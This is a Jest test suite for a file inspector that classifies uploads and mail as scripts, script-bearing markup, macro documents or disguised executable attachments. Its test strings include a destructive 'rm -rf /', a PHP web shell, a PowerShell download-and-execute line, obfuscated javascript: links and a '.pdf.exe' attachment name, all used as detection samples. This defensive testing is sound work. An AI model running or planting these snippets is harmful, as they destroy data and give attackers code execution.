import { describe, expect, test } from '@jest/globals';
import { inspectFile } from '../inspect-file.ts';
import { joined, octetsOf, sourceOf, utf8 } from '../testing/octets.ts';
import { MAIL } from '../testing/samples.ts';

const MIB = 2 ** 20;
const inspect = (text: string) => inspectFile(sourceOf(utf8(text)));

describe('a script', () => {
  test.each([
    '#!/bin/sh\nrm -rf /\n',
    '@echo off\r\ndel *.*\r\n',
    'REM Installation\r\n@ECHO OFF\r\n',
    ':: x\r\n\r\n@setlocal\r\n',
    '<?php system($_GET["x"]);',
    '<%@ page language="java" %>',
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]',
    '[InternetShortcut]\r\nURL=file://x/y.exe',
    '[Desktop Entry]\nExec=sh',
    'ID;PWXL;N;E\r\nC;X1;Y1;EEXEC("calc")',
    '%!PS-Adobe-3.0\n',
    '<job><script language="JScript">x</script></job>',
    'Set x = CreateObject("WScript.Shell")',
    '\' Makro\r\nOn Error Resume Next\r\nset s = createobject( "Scripting.FileSystemObject" )',
    'var s = new ActiveXObject("WScript.Shell");',
    'powershell.exe -enc SQBFAFgA',
    'IEX (New-Object Net.WebClient).DownloadString("http://x")',
    'param([string]$Name)\nRemove-Item $Name',
    'function Get-Thing {\n  return 1\n}',
  ])('is told by what it says: %j', async (text) => {
    expect(await inspect(text)).toMatchObject({ kind: 'other', format: 'script', dangers: ['script'] });
  });

  test('is told whatever follows it', async () => {
    for (const rest of ['x'.repeat(70_000), '\0', `${'x'.repeat(200_000)}\0`]) {
      const found = await inspectFile(sourceOf(joined('#!/bin/sh\n', rest)));
      expect(['executable', 'script']).toContain(found.dangers[0]);
    }
    const page = joined('<script>x</script>', 'x'.repeat(200_000), '\0');
    expect((await inspectFile(sourceOf(page))).dangers).toEqual(['script']);
  });

  test('is told in UTF-16', async () => {
    const octets = joined('\xff\xfe', new Uint8Array(Buffer.from('@echo off\r\n', 'utf16le')));
    expect(await inspectFile(sourceOf(octets))).toMatchObject({ format: 'script', dangers: ['script'] });
  });

  test.each([
    'Guten Tag,\n\nbitte führen Sie die Powershell nicht aus.\n',
    'Wir haben WScript abgeschaltet; echo off gibt es nicht.\n',
    '# Überschrift\n\n- Punkt\n',
    'ID;Name\n1;x\n',
    'IEX ist eine Börse.\n',
    'function of the office: to help\n',
  ])('is no letter about one: %j', async (text) => {
    expect(await inspect(text)).toMatchObject({ kind: 'text', dangers: [] });
  });

  test('text is one by its name', async () => {
    for (const name of ['a.bat', 'a.ps1', 'a.txt.vbs', 'a.hta', 'a.js', 'A.CMD ', 'a.mht']) {
      expect((await inspectFile(sourceOf(utf8('Guten Tag')), name)).dangers).toEqual(['script']);
    }
  });

  test('unknown octets and text are a program by their name', async () => {
    for (const octets of [utf8('Guten Tag'), new Uint8Array(100)]) {
      expect((await inspectFile(sourceOf(octets), 'www.example.com')).dangers).toEqual(['executable']);
    }
  });

  test('what is not known as markup is one, where a browser would take it for that by its name', async () => {
    for (const octets of [utf8('Guten <script>x</script>'), joined('\0', utf8('<script>x</script>'))]) {
      expect((await inspectFile(sourceOf(octets), 'a.html')).dangers).toEqual(['script']);
    }
  });
});

describe('markup', () => {
  test.each([
    ['html', '<!DOCTYPE html><script>x</script>'],
    ['html', '<html><body onload=x>'],
    ['html', '<p><a href="JavaScript:x">'],
    ['html', '<p><a href="&#106;avascript:x">'],
    ['html', '<body><iframe src=x>'],
    ['html', '<meta http-equiv="refresh" content="0;url=x">'],
    ['html', '<!-- Brief --><script src=x></script>'],
    ['html', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'],
    ['svg', '<svg><script>x</script></svg>'],
    ['svg', '<svg><a onclick="x"/></svg>'],
    ['svg', '<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script/></s:svg>'],
    ['svg', '<!-- x --><svg><foreignObject/></svg>'],
    ['xml', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'],
    ['xml', '<?xml version="1.0"?><a><h:script xmlns:h="http://www.w3.org/1999/xhtml"/></a>'],
    ['xml', '<?xml version="1.0"?><x:t xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'],
  ])('of %s with a script is told: %s', async (format, text) => {
    const found = await inspect(text);
    expect(found.dangers).toEqual(['script']);
    // A name space of another vocabulary says which one it is.
    expect([format, 'html']).toContain(found.format);
  });

  test('that is data may have any names', async () => {
    const text = '<?xml version="1.0"?><list><object id="1"/><base/><frame/><description on="1"/></list>';
    expect(await inspect(text)).toMatchObject({ kind: 'text', format: 'xml', dangers: [] });
  });

  test('with a script behind an octet that no text has is told', async () => {
    const octets = joined('<!doctype html>', 'x'.repeat(70_000), '\0<script>', 'x'.repeat(70_000));
    expect((await inspectFile(sourceOf(octets))).dangers).toEqual(['script']);
  });

  test('of more than 6 MiB was not looked at to its end', async () => {
    const text = joined('<!doctype html>', new Uint8Array(6 * MIB).fill(0x41));
    expect((await inspectFile(sourceOf(text))).dangers).toEqual(['unchecked']);
    expect((await inspectFile(sourceOf(text.subarray(0, 6 * MIB)))).dangers).toEqual([]);
  });

  test('of Office 2003 with macros is told', async () => {
    expect((await inspect('<?xml version="1.0"?><w:wordDocument w:macrosPresent="yes"/>')).dangers).toEqual(['macro']);
  });
});

describe('a mail', () => {
  test.each(['name="rechnung.pdf.exe"', 'filename=x.js', 'filename*0="x.lnk"', 'FileName = "a b.scr"'])(
    'with an attachment named like a program is told: %s',
    async (name) => {
      const octets = joined(MAIL, `--x\r\nContent-Disposition: attachment; ${name}\r\n\r\nTVqQ\r\n`);
      expect(await inspectFile(sourceOf(octets))).toMatchObject({ kind: 'mail', dangers: ['embedded_executable'] });
    },
  );

  test('with a document attached is a mail', async () => {
    const octets = joined(MAIL, '--x\r\nContent-Disposition: attachment; filename="Antrag.pdf"\r\n\r\nJVBE\r\n');
    expect(await inspectFile(sourceOf(octets))).toMatchObject({ format: 'eml', dangers: [] });
  });

  test('is no letter that begins with lines like a header', async () => {
    for (const text of [
      'Von: A\nAn: B\nBetreff: C\n\nText',
      'Subject: x\nTo: y\nDate: z\n\nText',
      'From: a\nTo: b\n\nx',
    ]) {
      expect(await inspect(text)).toMatchObject({ kind: 'text', dangers: [] });
    }
  });
});

describe('text', () => {
  test.each([
    ['a;b\n1;2\n', 'csv'],
    ['a\tb\n1\t2', 'csv'],
    [`a;b\n${'1;2\n'.repeat(20_000)}3`, 'csv'],
    ['a,b\n1,2\n3,4\n', 'csv'],
    ['a;"b;c"\n1;2\n', 'csv'],
    ['Hallo, du\nGrüße, ich\n', 'plain'],
    ['a;b\n', 'plain'],
    ['a;b\n1;2;3\n', 'plain'],
    ['x', 'plain'],
  ])('%j is %s', async (text, format) => expect(await inspect(text)).toMatchObject({ kind: 'text', format }));

  test('is known behind the mark of its encoding', async () => {
    for (const mark of ['', '\ufeff']) {
      expect(await inspect(`${mark}@echo off\r\n`)).toMatchObject({ format: 'script' });
      expect(await inspect(`${mark}<!doctype html>`)).toMatchObject({ format: 'html' });
      expect(await inspect(`${mark}Grüße, €\n`)).toMatchObject({ format: 'plain', dangers: [] });
    }
  });

  test('with octets at its end that no text has is unknown', async () => {
    const octets = joined('x'.repeat(200_000), '\0\x01');
    expect(await inspectFile(sourceOf(octets))).toMatchObject({ format: 'unknown' });
    expect(await inspectFile(sourceOf(octetsOf('Brief\0')))).toMatchObject({ format: 'unknown' });
  });
});
